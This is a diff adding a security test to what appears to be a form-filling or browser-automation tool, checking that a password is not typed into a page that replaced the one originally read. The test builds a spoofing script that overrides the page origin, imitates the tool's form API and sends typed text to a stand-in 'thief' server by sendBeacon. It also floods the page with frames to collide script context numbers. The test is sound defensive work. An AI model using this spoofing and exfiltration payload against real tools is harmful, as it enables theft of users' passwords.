@@ -318,6 +318,43 @@ test('a frame that takes the focus while a password is typed gets no character o
   expectNothingAt(thief);
 }, 200_000);
 
+/** Stands in for the script of the forms, and for the origin of its document, and sends what it is called with to the thief. */
+const posing = () => `<script>
+  Object.defineProperty(self, 'origin', { value: '${site.url}' });
+  const take = (answer) => (look, index, text) => (navigator.sendBeacon('${thief.url}/typed?' + new URLSearchParams({ text })), answer);
+  self.corralForms = { put: take('text'), insert: take('done'), choose: take('done'), empty: () => 'done', focused: () => true, focus: () => true, holds: () => 'all' };
+</script>`;
+
+test('a password is not typed into a page that took the place of the one that was read', async () => {
+  site.pages['/login'] = form(site.url);
+  // A new process counts its script contexts from 1, so that a context of the thief has the number that the one of the site had.
+  thief.pages['/login'] =
+    `${posing()}${atThief()}${srcdoc(posing()).repeat(20)}<script>onload = () => fetch('/loaded')</script>`;
+  const loaded = new Promise<void>((resolve) => {
+    thief.pages['/loaded'] = (_request, response) => {
+      response.end();
+      resolve();
+    };
+  });
+  const server = await muxServer();
+  const forms = openForms(server.mux);
+  try {
+    const page = await forms.open(`${site.url}/login`);
+    const ref = await forms.find(page, ['#pass']);
+    expect(ref).toBeDefined();
+    await forms.navigate(page, `${thief.url}/login`);
+    await loaded;
+    const allow = (origin: string) => origin === site.url;
+    await expect(forms.act(page, { kind: 'type', ref: ref!, text: password, allow })).rejects.toMatchObject({
+      fault: 'stale',
+    });
+  } finally {
+    forms.dispose();
+    await server.stop();
+  }
+  expectNothingAt(thief);
+}, 200_000);
+
 test('a domain that is given with http: is logged in at without https', async () => {
   takesPasswords(() => form(site.url));
   const ended = await logIn(await connection({ domain: site.url, login_url: undefined }));
